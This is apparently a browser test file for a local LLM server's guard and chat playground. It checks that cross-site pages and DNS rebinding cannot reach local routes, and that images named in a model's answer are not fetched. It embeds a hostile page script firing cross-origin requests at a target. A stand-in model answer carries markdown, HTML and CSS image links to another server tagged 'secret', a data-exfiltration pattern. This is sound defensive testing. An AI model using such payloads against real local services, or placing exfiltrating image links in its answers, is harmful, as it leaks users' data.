"""Pages of other sites in a real browser, against what stands before a server without keys and before the playground.

The oracle is Chromium: what it sends of its own accord, and whether it fetches what an answer names.
"""

import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import urlsplit

import pytest
from starlette.requests import Request
from starlette.responses import HTMLResponse, PlainTextResponse

from apps.serving.ingress.same_machine import SameMachine
from tests.http_servers import StandInServer, served
from tests.playground.page import LanguageModel, Start
from tests.playground.test_playground_browser import TIMEOUT_MS, ask

playwright = pytest.importorskip("playwright.sync_api", reason="make test-playground installs it")
CHROMIUM = shutil.which("chromium")
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium: apt-get install chromium"),
]
EVIL = """<script>
const url = new URLSearchParams(location.search).get("at"), body = '{"prompt": "x"}'
const tries = [
    fetch(url + "/text", {method: "POST", body, mode: "no-cors"}),
    fetch(url + "/json", {method: "POST", body, headers: {"Content-Type": "application/json"}}),
    fetch(url + "/form", {method: "POST", body: new URLSearchParams({a: "b"}), mode: "no-cors"}),
    fetch(url + "/file", {method: "POST", body: new FormData(), mode: "no-cors"}),
    fetch(url + "/get", {mode: "no-cors"}),
    fetch(url + "/put", {method: "PUT", body}),
    new Promise((done) => {const image = new Image(); image.onerror = image.onload = done; image.src = url + "/image"}),
    new Promise((done) => done(navigator.sendBeacon(url + "/beacon", body))),
    new Promise((done) => {const frame = document.createElement("iframe"); frame.onload = done
        frame.src = url + "/frame"; document.documentElement.append(frame)}),
]
Promise.allSettled(tries).then(() => setTimeout(() => document.title = "tried", 500))
</script>"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """To which evil.example is this machine, as after DNS rebinding."""
    rules = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    playwright.expect.set_options(timeout=TIMEOUT_MS)
    with playwright.sync_playwright() as play:
        browser = play.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", rules])
        yield browser
        browser.close()


@contextmanager
def server_and_page(guarded: bool) -> Iterator[tuple[int, list[str]]]:
    """The port of a server that has evil's page too, as DNS rebinding makes it look; and what reached its routes."""
    reached: list[str] = []

    async def app(scope: Any, receive: Any, send: Any) -> None:
        request = Request(scope, receive)
        if request.url.path != "/favicon.ico":
            reached.append(request.url.path)
        await PlainTextResponse("drawn")(scope, receive, send)

    inner = SameMachine(app, lambda scope, code, message: PlainTextResponse(message, code)) if guarded else app

    async def whole(scope: Any, receive: Any, send: Any) -> None:
        page = scope["path"] == "/page"
        await (HTMLResponse(EVIL)(scope, receive, send) if page else inner(scope, receive, send))

    with served(whole) as url:
        yield urlsplit(url).port, reached


TRIED = {"/text", "/form", "/file", "/get", "/image", "/beacon", "/frame"}
"""What a browser sends to another site without asking first."""


@pytest.mark.parametrize("guarded", [False, True])
def test_a_page_of_another_site_reaches_nothing(browser: Any, guarded: bool) -> None:
    with server_and_page(guarded) as (port, reached), served(HTMLResponse(EVIL)) as evil:
        for address in (f"http://127.0.0.1:{port}", f"http://localhost:{port}"):
            reached.clear()
            with browser.new_page() as page:
                page.set_default_timeout(TIMEOUT_MS)
                page.goto(f"{evil.replace('127.0.0.1', 'evil.example')}/?at={address}")
                page.wait_for_function("document.title == 'tried'")
            assert set(reached) & TRIED == (set() if guarded else TRIED)


@pytest.mark.parametrize("guarded", [False, True])
def test_a_name_that_now_leads_here_reaches_nothing(browser: Any, guarded: bool) -> None:
    with server_and_page(guarded) as (port, reached), browser.new_page() as page:
        page.set_default_timeout(TIMEOUT_MS)
        page.goto(f"http://evil.example:{port}/page?at=http://evil.example:{port}")
        page.wait_for_function("document.title == 'tried'")
        assert set(reached) & TRIED == (set() if guarded else TRIED)


def test_a_page_of_this_machine_reaches_all(browser: Any) -> None:
    with server_and_page(True) as (port, reached), browser.new_page() as page:
        page.set_default_timeout(TIMEOUT_MS)
        page.goto(f"http://localhost:{port}/page?at=http://localhost:{port}")
        page.wait_for_function("document.title == 'tried'")
        assert set(reached) >= TRIED - {"/text", "/beacon"}, "these two are text/plain, which no client here sends"


class Telling(LanguageModel):
    """Its answer has pictures of another server."""

    def do_POST(self) -> None:
        elsewhere = self.server.elsewhere  # type: ignore[attr-defined]
        text = f'Done: **seven**. ![]({elsewhere}/markdown?secret) <img src="{elsewhere}/html?secret">'
        text += f'\n\n<div style="background: url({elsewhere}/style?secret)">x</div> ![]({elsewhere}/second?secret)'
        self.say({"content": text})


def test_a_picture_in_an_answer_is_not_fetched(browser: Any, start: Start) -> None:
    asked: list[str] = []

    async def elsewhere(scope: Any, receive: Any, send: Any) -> None:
        asked.append(scope["path"])
        await PlainTextResponse("thank you")(scope, receive, send)

    with served(elsewhere) as url, StandInServer(Telling) as server, browser.new_page() as page:
        server.elsewhere = url  # type: ignore[attr-defined]
        page.set_default_timeout(TIMEOUT_MS)
        page.goto(start(server.url))
        ask(page, "What do I earn?")
        playwright.expect(page.locator("strong", has_text="seven")).to_be_visible(timeout=TIMEOUT_MS)
        page.wait_for_timeout(1000)
        drawn = page.evaluate("[...document.querySelectorAll('img')].map((image) => image.src)")
        assert any("secret" in source for source in drawn), "the answer has its pictures, which are not fetched"
    assert asked == []
